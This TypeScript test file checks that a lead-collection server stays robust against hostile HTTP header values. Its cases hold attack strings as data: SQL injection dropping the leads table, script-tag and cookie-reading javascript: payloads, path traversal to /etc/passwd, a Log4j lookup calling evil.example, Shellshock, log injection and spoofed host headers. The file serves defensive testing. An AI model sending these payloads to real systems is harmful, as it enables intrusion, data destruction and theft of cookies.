import { callNames, callOf, customCall, encode, sampleOf } from '../calls.ts';
import { type Family, type HostileCase, lead, page } from '../hostile-case.ts';
import { request } from '../wire.ts';

/** Hostile values by header. A lead is accepted anyway, because visitors do not type any of this. */
const values: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'idempotency-key': {
    'an empty value': '',
    'one character': 'x',
    'twelve thousand characters': 'k'.repeat(12_000),
    'SQL injection': "'; DROP TABLE leads;--",
    'a list': 'a, b, c',
    'non-ASCII bytes': '\xff\xfe\x80\x85',
    'a name from Object.prototype': '__proto__',
    'a script': '<script>alert(1)</script>',
  },
  referer: {
    'a javascript: URL': 'javascript:alert(document.cookie)',
    data: 'data:text/html,<script>alert(1)</script>',
    'a file': 'file:///etc/passwd',
    'an invalid URL': '://%zz[',
    'an unterminated host': 'http://[::',
    'twelve thousand characters': `https://larkfield.example/lp8/?${'x'.repeat(12_000)}`,
    'path traversal': 'https://larkfield.example/../../../../etc/passwd',
    'a hidden file': 'https://larkfield.example/.build/server.json',
    'a script': 'https://larkfield.example/lp8/?"><script>alert(1)</script>',
    'the URL of the call': 'https://larkfield.example/api/leads',
  },
  'user-agent': {
    'an empty value': '',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not become anything else here, either
    'a Log4j lookup': '${jndi:ldap://evil.example/a}',
    Shellshock: '() { :; }; echo vulnerable',
    'twelve thousand characters': 'Mozilla/5.0 '.repeat(1000),
    'a log line': '"}\\n{"level":"fatal"}',
    'non-ASCII bytes': '\xff\xfe\xc3\x28',
  },
  'x-forwarded-for': {
    'an empty value': '',
    'an invalid URL': 'unknown',
    'a thousand addresses': Array.from({ length: 1000 }, (_, index) => `10.0.${index % 256}.1`).join(','),
    'a script': '<script>alert(1)</script>',
    'SQL injection': "127.0.0.1'; DROP TABLE leads;--",
    'an address with zeros': '0127.0000.0000.0001',
    'an IPv6 address with a zone': 'fe80::1%eth0',
    'an unterminated IPv6 address': '1:2:3:4:5:6:7:8:9',
    'an invalid port': '203.0.113.7:99999999',
    'only commas': ',,,,,,',
    brackets: '[[::1]]:80',
  },
  'x-forwarded-proto': {
    'a javascript: URL': 'javascript',
    many: 'https,http,https,ftp',
    'two directives': 'https; upgrade',
  },
  'x-request-id': {
    'a script': '<script>alert(1)</script>',
    'twelve thousand characters': 'a'.repeat(12_000),
    'a log line': '","level":"fatal","x":"',
    blanks: 'a b\tc',
    'non-ASCII bytes': '\xff\x80',
    'path traversal': '../../../../tmp/x',
  },
  cookie: {
    'twelve thousand characters': 'a=b;'.repeat(3000),
    'no cookie': ';;;===,,,',
    'a name from Object.prototype': '__proto__=1; constructor=2',
  },
  'content-language': { 'non-ASCII bytes': '\xff\xfe' },
  'accept-language': { 'path traversal': '../../../etc/passwd' },
  origin: {
    null: 'null',
    'a javascript: URL': 'javascript:alert(1)',
    'another site': 'https://evil.example',
  },
  forwarded: { 'unterminated quotes': 'for="[2001:db8::1;proto="https' },
  proxy: { 'another host': 'http://evil.example:8080' },
  'x-original-url': { 'a hidden file': '/.env' },
  'x-rewrite-url': { 'a hidden file': '/.build/server.json' },
  'x-forwarded-host': { 'another host': 'evil.example' },
  'x-forwarded-prefix': { 'another host': '//evil.example' },
  'content-disposition': { 'path traversal': 'attachment; filename="../../a"' },
  'content-range': { 'a byte range': 'bytes 0-1/2' },
  'x-http-method-override': { 'another method': 'DELETE' },
  authorization: { 'an unknown word': 'Bearer '.padEnd(5000, 'x') },
  expect: { '100-continue': '100-continue' },
};

const onLeads: HostileCase[] = Object.entries(values).flatMap(([header, byName], offset) =>
  Object.entries(byName).map(([label, value], index) => {
    const call = callNames[(offset + index) % callNames.length] ?? 'email';
    return {
      name: `${label} in the header ${header} of the ${call} call`,
      wire: (visitor) =>
        customCall(call, visitor, {
          body: encode(call, sampleOf(call, visitor)),
          headers: { [header]: value },
        }),
      expected: lead,
    };
  }),
);

/** Names of JavaScript's built-in properties. */
const names: HostileCase[] = ['__proto__', 'constructor', 'toString', 'then', '0', "!#$%&'*+-.^_`|~"].map(
  (name) => ({
    name: `a header named ${name}`,
    wire: (visitor) => {
      const { bytes } = callOf('email', visitor, encode('email', sampleOf('email', visitor)));
      return { bytes: Buffer.from(bytes.toString('latin1').replace('\r\n', `\r\n${name}: x\r\n`), 'latin1') };
    },
    expected: lead,
  }),
);

const onPages: HostileCase[] = (
  [
    ['accept-encoding', 'gzip;q=NaN, br;q=-1, *;q=1e999, identity;q=0'],
    ['accept-encoding', 'br;q='.repeat(2000)],
    ['accept-encoding', ';;;,,,q=1'],
    ['if-none-match', `${'"a", '.repeat(2000)}W/`],
    ['if-none-match', '"'],
    ['if-modified-since', 'yesterday'],
    ['range', 'bytes=-1'],
    ['range', `bytes=${'0-0,'.repeat(2000)}1-1`],
    ['range', 'lines=9999999999999999999-'],
    ['if-range', '"x"'],
    ['accept', '*/*;q=NaN'.repeat(1000)],
    ['connection', 'keep-alive, host, content-length, __proto__'],
    ['upgrade', 'websocket'],
    ['te', 'trailers, deflate;q=0.5'],
    ['max-forwards', '-1'],
    ['x-forwarded-proto', 'https'],
    ['cache-control', 'max-age=-99999999999999999999'],
    ['referer', '//\\evil.example'],
  ] as const
).map(([header, value]) => ({
  name: `${value.slice(0, 40)} in the header ${header} of a page`,
  wire: () => request({ method: 'GET', target: '/lp8/', headers: { [header]: value } }),
  expected: page,
}));

export const headers: Family = {
  name: 'headers',
  cases: [...onLeads, ...names, ...onPages],
};
